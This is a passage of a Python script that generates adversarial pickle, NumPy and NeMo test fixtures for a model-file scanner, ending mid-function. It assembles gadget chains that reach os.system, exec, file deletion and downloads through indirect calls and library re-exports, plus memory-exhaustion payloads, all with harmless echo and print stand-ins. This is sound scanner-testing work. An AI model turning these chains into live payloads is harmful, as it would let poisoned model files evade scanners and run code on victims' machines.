#!/usr/bin/env python3
"""modelgate red team: an adversarial pickle corpus built against an allowlist-first engine.

    /root/.pyenv/versions/3.11.7/bin/python -m venv /tmp/redteam
    /tmp/redteam/bin/pip install numpy scipy scikit-learn joblib torch pyyaml
    /tmp/redteam/bin/python scripts/redteam/make_attacks.py          # (re)write test/fixtures/redteam/
    /tmp/redteam/bin/python scripts/redteam/make_attacks.py --check  # verify every gadget name resolves

Writes test/fixtures/redteam/<class>/<file> and test/fixtures/redteam/manifest.json (the format of
test/fixtures/manifest.json; test/fixtures.test.ts picks it up). Classes follow issue 12 and
THREATS.md P19-P22 plus what the public record adds (picklescan/modelscan/ModelAudit advisories,
"The Art of Hide and Seek", "PickleBall").

NOTHING HERE EVER LOADS A MALICIOUS FILE. Attack streams are assembled opcode by opcode from the
real module/name pairs an attacker ships; payloads are harmless (`echo modelgate-fixture`, reading
/etc/hostname, print). The only pickle.dumps calls are on benign objects made by the real
libraries (for near-twin benign files) and never on attacker-controlled reducers. `--check` only
imports the *modules* that gadget names live in and looks the names up (never calls them); a few
modules with import-time effects (antigravity, this) are never imported.
"""
from __future__ import annotations

import base64
import importlib
import io
import json
import pickle
import struct
import sys
import tarfile
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
OUT = ROOT / "test" / "fixtures" / "redteam"
MANIFEST: list[dict] = []
NAMES_USED: set[tuple[str, str]] = set()

CMD = "echo modelgate-fixture"
HOST = "/etc/hostname"
TMP = "/tmp/modelgate-fixture"

# ---------------------------------------------------------------- a tiny pickle assembler

MARK, STOP, POP, NONE, TRUE, FALSE = b"(", b".", b"0", b"N", b"\x88", b"\x89"
REDUCE, BUILD, NEWOBJ, NEWOBJ_EX, OBJ = b"R", b"b", b"\x81", b"\x92", b"o"
TUPLE, EMPTY_TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"t", b")", b"\x85", b"\x86", b"\x87"
EMPTY_LIST, APPENDS, EMPTY_DICT, SETITEMS, EMPTY_SET, ADDITEMS = b"]", b"e", b"}", b"u", b"\x8f", b"\x90"
STACK_GLOBAL, MEMOIZE = b"\x93", b"\x94"


class Raw(bytes):
    """Already-assembled opcodes, spliced as they are."""


def s(x: str) -> bytes:
    e = x.encode("utf-8")
    return b"X" + struct.pack("<I", len(e)) + e


def by(x: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(x)) + x


def i(n: int) -> bytes:
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if -(2**31) <= n < 2**31:
        return b"J" + struct.pack("<i", n)
    e = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(e)]) + e


def c(v) -> bytes:
    """A constant (or Raw opcodes) as pickle opcodes."""
    if isinstance(v, Raw):
        return bytes(v)
    if v is None:
        return NONE
    if v is True:
        return TRUE
    if v is False:
        return FALSE
    if isinstance(v, int):
        return i(v)
    if isinstance(v, float):
        return b"G" + struct.pack(">d", v)
    if isinstance(v, str):
        return s(v)
    if isinstance(v, (bytes, bytearray)):
        return by(bytes(v))
    if isinstance(v, tuple):
        return tup(*v)
    if isinstance(v, list):
        return lst(*v)
    if isinstance(v, dict):
        return dct(v)
    raise TypeError(type(v))


def tup(*items) -> Raw:
    if not items:
        return Raw(EMPTY_TUPLE)
    return Raw(MARK + b"".join(c(x) for x in items) + TUPLE)


def lst(*items) -> Raw:
    return Raw(EMPTY_LIST + (MARK + b"".join(c(x) for x in items) + APPENDS if items else b""))


def dct(d) -> Raw:
    items = d.items() if isinstance(d, dict) else d
    body = b"".join(c(k) + c(v) for k, v in items)
    return Raw(EMPTY_DICT + (MARK + body + SETITEMS if body else b""))


def sett(*items) -> Raw:
    return Raw(EMPTY_SET + MARK + b"".join(c(x) for x in items) + ADDITEMS)


def g(module: str, name: str) -> Raw:
    """GLOBAL (protocol 0-3 spelling; the unpickler accepts it at any protocol)."""
    NAMES_USED.add((module, name))
    return Raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")


def sg(module: str, name: str) -> Raw:
    NAMES_USED.add((module, name))
    return Raw(s(module) + s(name) + STACK_GLOBAL)


def call(fn, *args) -> Raw:
    """fn(*args) via REDUCE."""
    return Raw(c(fn) + c(tup(*args)) + REDUCE)


def new(cls, *args) -> Raw:
    """cls.__new__(cls, *args) via NEWOBJ."""
    return Raw(c(cls) + c(tup(*args)) + NEWOBJ)


def new_ex(cls, args: tuple, kwargs: dict) -> Raw:
    return Raw(c(cls) + c(tup(*args)) + c(dct(kwargs)) + NEWOBJ_EX)


def build(obj, state) -> Raw:
    return Raw(c(obj) + c(state) + BUILD)


def put(n: int) -> Raw:
    return Raw(b"q" + bytes([n]))


def get(n: int) -> Raw:
    return Raw(b"h" + bytes([n]))


def pk(*parts, proto: int | None = 2) -> bytes:
    head = b"\x80" + bytes([proto]) if proto is not None else b""
    return head + b"".join(c(p) for p in parts) + STOP


# ---------------------------------------------------------------- output

def out(cls: str, name: str, data: bytes, expect: str, threat: str, mentions: list[str], note: str) -> None:
    path = OUT / cls / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    MANIFEST.append({"file": f"redteam/{cls}/{name}", "expect": expect,
                     "threat": threat if expect == "block" else None, "mentions": mentions, "note": note})


def bad(cls, name, data, threat, mentions, note):
    out(cls, name, data, "block", threat, mentions, note)


def good(cls, name, data, note):
    out(cls, name, data, "pass", None, [], note)


# ---------------------------------------------------------------- gadgets

# Callables on NEITHER list of src/rules/callables.ts (checked by --check against the deny lists
# by hand when this was written) that run commands, write/read files, import or download. Each is a
# real stdlib or library function; (module, name, one harmless argument tuple, what it does).
UNKNOWN_GADGETS = [
    ("_osx_support", "_read_output", (CMD,), "runs its argument through os.system (pure-Python stdlib module, present on Linux)"),
    ("mailcap", "findmatch", ({"text/plain": [{"view": "cat %s", "test": CMD}]}, "text/plain"), "runs the entry's test command via os.system (modelscan PR 346)"),
    ("test.support.script_helper", "assert_python_ok", ("-c", "print('modelgate-fixture')"), "spawns a Python interpreter running its code argument"),
    ("uuid", "_ifconfig_getnode", (), "spawns ifconfig/ip through uuid._get_command_stdout"),
    ("_frozen_importlib", "_gcd_import", ("this",), "importlib's own import function under its frozen name: imports any module"),
    ("sklearn.utils.discovery", "import_module", ("this",), "importlib.import_module re-exported by scikit-learn"),
    ("sklearn.datasets._base", "urlretrieve", ("file:///etc/hostname", TMP), "urllib.request.urlretrieve re-exported by scikit-learn: downloads to a file"),
    ("sklearn.datasets._lfw", "remove", (TMP,), "os.remove (posix.remove) re-exported by scikit-learn: deletes a file"),
    ("numpy.lib._npyio_impl", "load", (HOST,), "numpy.load under its implementation module (allow_pickle loads nested pickles)"),
    ("numpy.lib.format", "open_memmap", (TMP, "w+", "<f4", (4,)), "creates and maps a file"),
    ("numpy", "savetxt", (TMP, [1.0]), "writes a file"),
    ("sklearn.datasets", "dump_svmlight_file", (TMP,), "writes a file"),
    ("scipy.io", "loadmat", (HOST,), "reads a file path"),
    ("logging", "FileHandler", (TMP,), "opens (creates) a file in __init__"),
    ("pstats", "Stats", (HOST,), "reads and marshal-loads a file"),
    ("builtins", "print", ("modelgate-fixture",), "not dangerous, but not allowlisted either: reachable means reported"),
    ("modelgate_redteam_nolib.payload", "run", (CMD,), "a module that does not exist in any index: unknown, whatever it would do"),
]
GADGET = {f"{m}.{n}": (m, n, a) for m, n, a, _ in UNKNOWN_GADGETS}


def gadget(key: str) -> tuple[Raw, tuple]:
    m, n, a = GADGET[key]
    return g(m, n), a


READ_OUTPUT = g("_osx_support", "_read_output")
SYSTEM = g("posix", "system")


# ---------------------------------------------------------------- P19: indirect invocation

def make_composition() -> None:
    C = "composition"
    # Consumers that iterate their argument, each around map(callee, [arg]) built by NEWOBJ
    # (today: map "constructed" -> low) or REDUCE.
    consumers = [("builtins", "list"), ("builtins", "tuple"), ("builtins", "set"), ("builtins", "frozenset"),
                 ("collections", "deque"), ("collections", "Counter"), ("builtins", "bytes"), ("builtins", "bytearray")]
    for cm, cn in consumers:
        it = new(g("builtins", "map"), READ_OUTPUT, [CMD])
        bad(C, f"newobj_map_{cn}_read_output.pkl", pk(call(g(cm, cn), it)), "P19", ["_osx_support._read_output"],
            f"{cm}.{cn}(map(_osx_support._read_output, [cmd])): map built by NEWOBJ, consumed by an allowlisted {cn}")
    # dict / OrderedDict consume pairs: the call happens before the pair check fails.
    for cm, cn in [("builtins", "dict"), ("collections", "OrderedDict")]:
        it = new(g("builtins", "map"), READ_OUTPUT, [CMD])
        bad(C, f"newobj_map_{cn}_read_output.pkl", pk(call(g(cm, cn), it)), "P19", ["_osx_support._read_output"],
            f"{cm}.{cn}(map(...)): iterating for key/value pairs calls the mapped function first")
    # The same with the denylisted callee (must be critical/high, already is) and REDUCE-built map.
    bad(C, "map_list_system.pkl", pk(call(g("builtins", "list"), call(g("builtins", "map"), SYSTEM, [CMD]))), "P19",
        ["posix.system"], "list(map(posix.system, [cmd])) via REDUCE")
    bad(C, "newobj_map_list_exec.pkl",
        pk(call(g("builtins", "list"), new(g("builtins", "map"), g("builtins", "exec"), ["print('modelgate-fixture')"]))),
        "P19", ["builtins.exec"], "list(map(exec, [code])) with map built by NEWOBJ")
    # Every unknown gadget through the most common carrier.
    for m, n, args, what in UNKNOWN_GADGETS:
        it = new(g("itertools", "starmap"), g(m, n), [tuple(args)])
        safe = f"{m}_{n}".replace(".", "_").strip("_")
        bad(C, f"starmap_list_{safe}.pkl", pk(call(g("builtins", "list"), it)), "P19", [f"{m}.{n}"],
            f"list(itertools.starmap({m}.{n}, [args])): {what}")
    # Other iterator adapters that call a function per item.
    adapters = [
        ("filter", new(g("builtins", "filter"), READ_OUTPUT, [CMD])),
        ("filterfalse", new(g("itertools", "filterfalse"), READ_OUTPUT, [CMD])),
        ("takewhile", new(g("itertools", "takewhile"), READ_OUTPUT, [CMD])),
        ("dropwhile", new(g("itertools", "dropwhile"), READ_OUTPUT, [CMD])),
        ("groupby", new(g("itertools", "groupby"), [CMD], READ_OUTPUT)),
        ("accumulate", new(g("itertools", "accumulate"), [CMD, False], READ_OUTPUT)),
        ("zip_of_map", new(g("builtins", "zip"), new(g("builtins", "map"), READ_OUTPUT, [CMD]))),
        ("chain_of_map", new(g("itertools", "chain"), new(g("builtins", "map"), READ_OUTPUT, [CMD]))),
        ("islice_of_map", new(g("itertools", "islice"), new(g("builtins", "map"), READ_OUTPUT, [CMD]), 1)),
        ("enumerate_of_map", new(g("builtins", "enumerate"), new(g("builtins", "map"), READ_OUTPUT, [CMD]))),
        ("reversed_sorted_map", new(g("builtins", "reversed"), call(g("builtins", "list"), new(g("builtins", "map"), READ_OUTPUT, [CMD])))),
    ]
    for label, it in adapters:
        bad(C, f"{label}_tuple_read_output.pkl", pk(call(g("builtins", "tuple"), it)), "P19", ["_osx_support._read_output"],
            f"tuple({label}(... _osx_support._read_output ...)): iterator adapter built by NEWOBJ")
    # iter(callable, sentinel) calls callable() until it returns the sentinel (os.system returns 0).
    part = new(g("_functools", "partial"), READ_OUTPUT, CMD)
    bad(C, "iter_sentinel_partial.pkl", pk(call(g("builtins", "list"), new(g("builtins", "iter"), part, None))), "P19",
        ["_osx_support._read_output"], "list(iter(_functools.partial(_read_output, cmd), None)): iter's callable form")
    # Allowlisted callables that call an argument.
    bad(C, "reconstructor_filehandler.pkl",
        pk(call(g("copyreg", "_reconstructor"), g("logging", "FileHandler"), g("logging", "FileHandler"), TMP)), "P19",
        ["logging.FileHandler"], "copyreg._reconstructor(C, C, arg) runs C.__init__(obj, arg): FileHandler opens a file")
    bad(C, "reconstructor_gzip_reexport.pkl",
        pk(call(g("copyreg", "_reconstructor"), g("sklearn.datasets._covtype", "GzipFile"), g("sklearn.datasets._covtype", "GzipFile"), HOST)),
        "P19", ["sklearn.datasets._covtype.GzipFile"], "copyreg._reconstructor with gzip.GzipFile named through scikit-learn")
    bad(C, "newobj_helper_map.pkl",
        pk(call(g("builtins", "list"), call(g("copyreg", "__newobj__"), g("builtins", "map"), READ_OUTPUT, [CMD]))), "P19",
        ["_osx_support._read_output"], "copyreg.__newobj__(map, f, xs) then list(): __newobj__ constructs the iterator")
    bad(C, "newobj_ex_helper_map.pkl",
        pk(call(g("builtins", "list"), call(g("copyreg", "__newobj_ex__"), g("builtins", "map"), (READ_OUTPUT, [CMD]), {}))), "P19",
        ["_osx_support._read_output"], "copyreg.__newobj_ex__(map, (f, xs), {}) then list()")
    for ctor in ("__randomstate_ctor", "__generator_ctor"):
        bad(C, f"numpy_random{ctor}_read_output.pkl",
            pk(call(g("numpy.random._pickle", ctor), CMD, READ_OUTPUT)), "P19", ["_osx_support._read_output"],
            f"numpy.random._pickle.{ctor}(name, bit_generator_ctor) calls bit_generator_ctor(name)")
        bad(C, f"numpy_random{ctor}_system.pkl", pk(call(g("numpy.random._pickle", ctor), CMD, SYSTEM)), "P19",
            ["posix.system"], f"numpy.random._pickle.{ctor}(cmd, posix.system)")
    bad(C, "numpy_random_bit_generator_ctor_class.pkl",
        pk(call(g("numpy.random._pickle", "__bit_generator_ctor"), g("sklearn.datasets._covtype", "TemporaryDirectory"))), "P19",
        ["sklearn.datasets._covtype.TemporaryDirectory"], "__bit_generator_ctor(cls) calls cls() for any type: creates a directory")
    bad(C, "rebuild_from_type_read_output.pkl",
        pk(call(g("torch._tensor", "_rebuild_from_type"), READ_OUTPUT, g("torch", "Tensor"), (CMD,), {})), "P19",
        ["_osx_support._read_output"], "torch._tensor._rebuild_from_type(func, type, args, dict) calls func(*args)")
    bad(C, "rebuild_from_type_v2_read_output.pkl",
        pk(call(g("torch._tensor", "_rebuild_from_type_v2"), READ_OUTPUT, g("torch", "Tensor"), (CMD,), {})), "P19",
        ["_osx_support._read_output"], "torch._tensor._rebuild_from_type_v2(func, type, args, state) calls func(*args)")
    bad(C, "defaultdict_factory_unknown.pkl",
        pk(dct({"model": call(g("collections", "defaultdict"), READ_OUTPUT)})), "P19", ["_osx_support._read_output"],
        "collections.defaultdict(_read_output): the factory runs on the model code's first missing key")
    bad(C, "defaultdict_factory_partial.pkl",
        pk(call(g("collections", "defaultdict"), new(g("_functools", "partial"), READ_OUTPUT, CMD))), "P19",
        ["_osx_support._read_output"], "defaultdict(_functools.partial(_read_output, cmd)): dormant until a missing key")
    # functools.partial state restored by BUILD: (func, args, kwds, dict); the func is only in the state.
    part_state = build(new(g("_functools", "partial"), g("builtins", "print")), (READ_OUTPUT, (CMD,), {}, None))
    bad(C, "partial_build_state_swap.pkl", pk(call(g("collections", "defaultdict"), part_state)), "P19",
        ["_osx_support._read_output"], "partial(print) whose BUILD state (func, args, kwds, dict) swaps in _read_output")
    bad(C, "reduce_py3_unknown.pkl", pk(call(g("_functools", "reduce"), READ_OUTPUT, [False], CMD)), "P19",
        ["_functools.reduce"], "_functools.reduce(_read_output, [False], cmd) = _read_output(cmd, False)")
    # Callables left in object state, called when the model runs (nn.Module forward / hooks).
    lin = new(g("torch.nn.modules.linear", "Linear"))
    state = {"training": False, "_parameters": {}, "_buffers": {}, "_modules": {},
             "_forward_hooks": call(g("collections", "OrderedDict"), [(0, READ_OUTPUT)]), "in_features": 1, "out_features": 1}
    bad(C, "module_forward_hook_unknown.pkl", pk(build(lin, state)), "P19", ["_osx_support._read_output"],
        "torch Linear whose BUILD state registers _read_output as a forward hook: runs on the first forward()")
    state2 = {"training": False, "_parameters": {}, "_buffers": {}, "_modules": {}, "forward": READ_OUTPUT}
    bad(C, "module_forward_override.pkl", pk(build(new(g("torch.nn.modules.linear", "Linear")), state2)), "P19",
        ["_osx_support._read_output"], "torch Linear whose instance dict sets forward = _read_output (model(x) calls it)")
    # Nesting: the carrier deep inside an innocent-looking checkpoint dict.
    ckpt = {"epoch": 3, "state_dict": call(g("collections", "OrderedDict")),
            "meta": [1, (2, {"k": call(g("builtins", "frozenset"), new(g("builtins", "map"), READ_OUTPUT, [CMD]))})]}
    bad(C, "nested_checkpoint_map.pkl", pk(dct(ckpt)), "P19", ["_osx_support._read_output"],
        "a checkpoint dict whose metadata holds frozenset(map(_read_output, [cmd])) three levels down")
    # Benign near-twins: the same carriers around allowlisted harmless callables.
    good(C, "benign_list_of_range.pkl", pk(call(g("builtins", "list"), call(g("builtins", "range"), 4))), "list(range(4))")
    good(C, "benign_ordereddict_pairs.pkl",
         pk(call(g("collections", "OrderedDict"), [("a", 1), ("b", 2)])), "OrderedDict([(k, v), ...]) as state dicts are")
    good(C, "benign_defaultdict_list.pkl", pk(build(call(g("collections", "defaultdict"), g("builtins", "list")), None)),
         "collections.defaultdict(list), as sklearn/vocabularies pickle")
    good(C, "benign_reconstructor_object.pkl",
         pk(build(call(g("copyreg", "_reconstructor"), g("collections", "OrderedDict"), g("builtins", "dict"), {"a": 1}), None)),
         "copyreg._reconstructor(OrderedDict, dict, state): protocol 0/1 default reduce of a dict subclass")
    import numpy as np  # noqa: E402 - real library objects for the benign twins
    good(C, "benign_numpy_randomstate.pkl", pickle.dumps(np.random.RandomState(0), 2),
         "numpy RandomState pickled by NumPy (__randomstate_ctor with __bit_generator_ctor)")
    good(C, "benign_numpy_generator.pkl", pickle.dumps(np.random.default_rng(0), 2),
         "numpy Generator pickled by NumPy (__generator_ctor)")


# ---------------------------------------------------------------- P20: families and re-exports

def make_families() -> None:
    C = "families"
    reexports = [
        ("sklearn.datasets._covtype", "GzipFile", (TMP, "wb"), "gzip.GzipFile: creates a file"),
        ("sklearn.datasets._kddcup99", "GzipFile", (HOST,), "gzip.GzipFile: opens a file"),
        ("sklearn.datasets._covtype", "TemporaryDirectory", (), "tempfile.TemporaryDirectory: creates a directory"),
        ("sklearn.datasets._openml", "TemporaryDirectory", (), "tempfile.TemporaryDirectory"),
        ("sklearn.callback._transport", "Listener", (("127.0.0.1", 0),), "multiprocessing.connection.Listener: opens a listening socket"),
        ("sklearn.callback._transport", "Connection", (0,), "multiprocessing.connection.Connection around a raw file descriptor"),
        ("sklearn.callback._progressbar", "Thread", (None, g("builtins", "print"), None, ("modelgate-fixture",)), "threading.Thread with a target"),
        ("sklearn.datasets._lfw", "Memory", (TMP,), "joblib.Memory: a disk cache that pickles and unpickles"),
        ("sklearn.datasets._openml", "Request", ("file:///etc/hostname",), "urllib.request.Request"),
        ("torch.multiprocessing", "Process", (None, g("builtins", "print"), None, ("modelgate-fixture",)), "multiprocessing Process re-exported by torch"),
    ]
    for m, n, args, what in reexports:
        safe = f"{m.split('.')[-1]}_{n}".strip("_")
        bad(C, f"reexport_call_{safe}.pkl", pk(call(g(m, n), *args)), "P20", [f"{m}.{n}"],
            f"{m}.{n}(...) is {what}, imported into scikit-learn; a sklearn.* class family admits it")
    for m, n, args, what in reexports[:3]:
        safe = f"{m.split('.')[-1]}_{n}".strip("_")
        bad(C, f"reexport_newobj_build_{safe}.pkl", pk(build(new(g(m, n)), {"name": TMP})), "P20", [f"{m}.{n}"],
            f"{m}.{n} constructed by NEWOBJ then given state: {what}")
    fns = [("sklearn.utils.discovery", "import_module", ("this",)), ("sklearn.datasets._base", "urlretrieve", ("file:///etc/hostname", TMP)),
           ("sklearn.datasets._openml", "urlopen", ("file:///etc/hostname",)), ("sklearn.datasets._base", "makedirs", (TMP,)),
           ("sklearn.datasets._lfw", "remove", (TMP,)), ("sklearn.datasets._base", "NamedTemporaryFile", ()),
           ("sklearn.utils._testing", "check_output", (["echo", "modelgate-fixture"],)),
           ("numpy.lib._npyio_impl", "load", (HOST,))]
    for m, n, args in fns:
        bad(C, f"reexport_fn_{m.split('.')[-1]}_{n}.pkl".replace("__", "_"), pk(call(g(m, n), *args)), "P20", [f"{m}.{n}"],
            f"{m}.{n}: a stdlib function re-exported by the library")
    # Module attributes of library modules (protocol 4 dotted names).
    for m, n in [("sklearn.datasets._base", "os.system"), ("sklearn.datasets._twenty_newsgroups", "pickle.loads"),
                 ("sklearn.datasets._base", "shutil.rmtree")]:
        bad(C, f"dotted_{m.split('.')[-1]}_{n.replace('.', '_')}.pkl", pk(call(sg(m, n), CMD), proto=4), "P16",
            [f"{m}.{n}"], f"STACK_GLOBAL {m} {n}: a stdlib module reached as an attribute of a library module")
    # Public record: builtins.dict.get over numpy.__builtins__ (modelscan issue 89).
    bad(C, "dict_get_numpy_builtins.pkl",
        pk(call(call(sg("builtins", "dict.get"), sg("numpy", "__builtins__"), "exec"), "print('modelgate-fixture')"), proto=4),
        "P16", ["numpy.__builtins__"], "dict.get(numpy.__builtins__, 'exec')(code): modelscan issue 89")
    # Benign twins: real library classes of the same families.
    import numpy as np
    from scipy import sparse
    from sklearn.linear_model import LinearRegression
    lr = LinearRegression().fit(np.array([[0.0], [1.0], [2.0]]), np.array([0.0, 1.0, 2.0]))
    good(C, "benign_sklearn_linear_regression.pkl", pickle.dumps(lr, 4), "a fitted LinearRegression pickled by scikit-learn")
    good(C, "benign_scipy_csr.pkl", pickle.dumps(sparse.csr_matrix(np.eye(3)), 4), "a scipy CSR matrix")
    # Hydra _target_ in .nemo configs (CVE-2025-23304 class), through re-exports.
    layers = ("  preprocessor:\n    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n    features: 80\n"
              "  encoder:\n    _target_: torch.nn.Linear\n    in_features: 8\n    out_features: 4\n")
    for n, target, extra in [
        ("gzip_reexport", "sklearn.datasets._covtype.GzipFile", "    filename: /tmp/modelgate-fixture\n    mode: wb\n"),
        ("import_module_reexport", "sklearn.utils.discovery.import_module", "    name: this\n"),
        ("urlretrieve_reexport", "sklearn.datasets._base.urlretrieve", "    url: file:///etc/hostname\n    filename: /tmp/modelgate-fixture\n"),
        ("read_output", "_osx_support._read_output", "    commandstring: echo modelgate-fixture\n"),
        ("torch_mp_spawn", "torch.multiprocessing.spawn", "    fn: builtins.print\n"),
        ("listener_reexport", "sklearn.callback._transport.Listener", "    address: [127.0.0.1, 0]\n"),
    ]:
        bad(C, f"hydra_{n}.nemo", nemo("name: asr\nmodel:\n" + layers + f"  decoder:\n    _target_: {target}\n" + extra),
            "P20", [target], f"NeMo model_config.yaml whose _target_ is {target}")
    bad(C, "hydra_nemo_targets.nemo", nemo("name: asr\nmodel:\n" + layers + "  optim:\n    _target_: torch.optim.Adam\n    lr: 0.001\n"),
         "P20", ["nemo.collections"], "NeMo config with torch.nn / torch.optim / nemo targets: NeMo is not in the generated allowlist, so its targets are unknown until a team allows them")


def nemo(model_config: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in (("./model_config.yaml", model_config.encode()),
                           ("./model_weights.ckpt", pickle.dumps({"encoder.weight": [0.5, 0.25]}, protocol=2))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# ---------------------------------------------------------------- Python 2 names (_compat_pickle)

def make_py2() -> None:
    C = "py2names"
    # CPython applies NAME_MAPPING only when the stream's protocol is < 3.
    bad(C, "imap_newobj_list.pkl", pk(call(g("__builtin__", "list"), new(g("itertools", "imap"), READ_OUTPUT, [CMD]))),
        "P19", ["_osx_support._read_output"], "itertools.imap is builtins.map under _compat_pickle; NEWOBJ then list()")
    bad(C, "ifilter_newobj_tuple.pkl", pk(call(g("__builtin__", "tuple"), new(g("itertools", "ifilter"), READ_OUTPUT, [CMD]))),
        "P19", ["_osx_support._read_output"], "itertools.ifilter is builtins.filter")
    bad(C, "izip_of_imap.pkl",
        pk(call(g("__builtin__", "list"), new(g("itertools", "izip"), new(g("itertools", "imap"), READ_OUTPUT, [CMD])))),
        "P19", ["_osx_support._read_output"], "izip(imap(f, xs)): both Python 2 names")
    bad(C, "builtin_reduce_read_output.pkl", pk(call(g("__builtin__", "reduce"), READ_OUTPUT, [False], CMD)), "P3",
        ["reduce"], "__builtin__.reduce is functools.reduce: reduce(_read_output, [False], cmd)")
    bad(C, "builtin_reduce_system.pkl", pk(call(g("__builtin__", "reduce"), SYSTEM, [CMD], None)), "P3",
        ["posix.system"], "functools.reduce via its Python 2 name around posix.system")
    bad(C, "builtin_intern.pkl", pk(call(g("__builtin__", "intern"), "modelgate-fixture")), "P16", ["intern"],
        "__builtin__.intern is sys.intern (the sys module)")
    bad(C, "whichdb.pkl", pk(call(g("whichdb", "whichdb"), HOST)), "P2", ["whichdb"], "whichdb.whichdb is dbm.whichdb: opens files")
    bad(C, "userdict_build_dunder.pkl",
        pk(build(new(g("UserDict", "UserDict")), {"__class__": g("collections", "OrderedDict"), "data": {}})), "P16",
        ["__class__"], "UserDict.UserDict (collections.UserDict) with __class__ in its state")
    bad(C, "standarderror_reduce.pkl", pk(call(g("exceptions", "StandardError"), call(g("__builtin__", "reduce"), READ_OUTPUT, [False], CMD))),
        "P3", ["reduce"], "exceptions.StandardError (builtins.Exception) wrapping a __builtin__.reduce call")
    # Benign twins: Python 2 pickles as numpy/sklearn under Python 2 wrote them.
    good(C, "benign_py2_set_xrange.pkl",
         pk(dct({"s": call(g("__builtin__", "set"), [1, 2]), "r": call(g("__builtin__", "xrange"), 3),
                 "u": call(g("__builtin__", "unicode"), "x"), "l": call(g("__builtin__", "long"), 7)})),
         "Python 2 names that map to allowlisted builtins (set, range, str, int)")
    good(C, "benign_py2_reconstructor.pkl",
         pk(build(call(g("copy_reg", "_reconstructor"), g("collections", "OrderedDict"), g("__builtin__", "dict"), {"a": 1}), None)),
         "copy_reg._reconstructor(OrderedDict, __builtin__.dict, state) as Python 2 wrote dict subclasses")
    good(C, "benign_py2_exception.pkl", pk(call(g("exceptions", "ValueError"), "bad value")),
         "exceptions.ValueError (builtins.ValueError), as pickled error records carry")


# ---------------------------------------------------------------- P21: harm from allowlisted calls alone

def make_resources() -> None:
    C = "resources"
    bad(C, "bytearray_1e12.pkl", pk(call(g("builtins", "bytearray"), 10**12)), "P21", ["builtins.bytearray"],
        "bytearray(10**12): a terabyte allocation from an allowlisted type")
    bad(C, "bytes_1e12.pkl", pk(call(g("builtins", "bytes"), 10**12)), "P21", ["builtins.bytes"], "bytes(10**12)")
    bad(C, "list_range_1e15.pkl", pk(call(g("builtins", "list"), call(g("builtins", "range"), 10**15))), "P21",
        ["builtins.range"], "list(range(10**15))")
    bad(C, "frozenset_range_1e12.pkl", pk(call(g("builtins", "frozenset"), call(g("builtins", "range"), 0, 10**12, 1))), "P21",
        ["builtins.range"], "frozenset(range(0, 10**12, 1))")
    bad(C, "list_count.pkl", pk(call(g("builtins", "list"), new(g("itertools", "count")))), "P21", ["itertools.count"],
        "list(itertools.count()): never ends")
    bad(C, "deque_repeat.pkl", pk(call(g("collections", "deque"), new(g("itertools", "repeat"), b"x" * 16))), "P21",
        ["itertools.repeat"], "deque(itertools.repeat(b'...')): endless")
    bad(C, "tuple_cycle.pkl", pk(call(g("builtins", "tuple"), new(g("itertools", "cycle"), [1]))), "P21",
        ["itertools.cycle"], "tuple(itertools.cycle([1]))")
    bad(C, "bytes_repeat_py2.pkl", pk(call(g("__builtin__", "list"), new(g("itertools", "repeat"), 0))), "P21",
        ["itertools.repeat"], "list(repeat(0)) with Python 2 builtins")
    bad(C, "ndarray_huge_shape.pkl",
        pk(call(g("numpy._core.multiarray", "_reconstruct"), g("numpy", "ndarray"), (10**6, 10**6, 10**3), b"b")), "P21",
        ["numpy._core.multiarray._reconstruct"], "_reconstruct(ndarray, (1e6, 1e6, 1e3), 'b') allocates an exabyte")
    bad(C, "ndarray_new_huge.pkl", pk(call(g("numpy", "ndarray"), (2**40, 2**20), g("numpy", "float64"))), "P21",
        ["numpy.ndarray"], "ndarray((2**40, 2**20), float64)")
    # Array headers that disagree with their data.
    import numpy as np
    arr = np.arange(4, dtype="<f4")
    dt = Raw(call(g("numpy", "dtype"), "f4", False, True) + c((3, "<", None, None, None, -1, -1, 0)) + BUILD)

    def ndarray_state(shape, raw):
        base = call(g("numpy._core.multiarray", "_reconstruct"), g("numpy", "ndarray"), (0,), b"b")
        return pk(Raw(base + c((1, shape, dt, False, raw)) + BUILD))

    good(C, "benign_ndarray_state.pkl", ndarray_state((4,), arr.tobytes()), "ndarray state whose shape matches its 16 bytes")
    bad(C, "ndarray_state_short_data.pkl", ndarray_state((1 << 20, 1 << 20), arr.tobytes()), "P21", [],
        "ndarray BUILD state claiming 2**40 float32 with 16 bytes of data")
    bad(C, "ndarray_state_negative_dim.pkl", ndarray_state((-4,), arr.tobytes()), "P21", [], "ndarray state with a negative dimension")
    good(C, "benign_ndarray_numpy.pkl", pickle.dumps(np.arange(6, dtype=np.int32).reshape(2, 3), 4), "an int32 array pickled by NumPy")

    def npy(header: dict, data: bytes) -> bytes:
        h = repr(header).encode("latin1")
        h += b" " * (-(10 + len(h) + 1) % 64) + b"\n"
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + data

    good(C, "benign_array.npy", npy({"descr": "<f4", "fortran_order": False, "shape": (4,)}, arr.tobytes()), "a .npy of 4 float32")
    bad(C, "npy_shape_past_data.npy", npy({"descr": "<f4", "fortran_order": False, "shape": (1 << 30, 1 << 30)}, arr.tobytes()), "P21", [],
        ".npy header shape 2**60 elements, 16 bytes of data (mmap_mode / readers trust the header)")
    bad(C, "npy_shape_overflow.npy", npy({"descr": "<f8", "fortran_order": False, "shape": (2**62, 2**62)}, arr.tobytes()), "P21", [],
        ".npy header whose element count overflows 64 bits")
    bad(C, "npy_negative_shape.npy", npy({"descr": "<f4", "fortran_order": False, "shape": (-1, 4)}, arr.tobytes()), "P21", [],
        ".npy header with a negative dimension")
    # SciPy sparse matrices with out-of-bounds indices (loaders and kernels trust them).
    from scipy import sparse
    dense = np.array([[1.0, 0.0, 2.0], [0.0, 3.0, 0.0], [4.0, 0.0, 5.0]])
    for fmt, mk in (("csr", sparse.csr_matrix), ("csc", sparse.csc_matrix)):
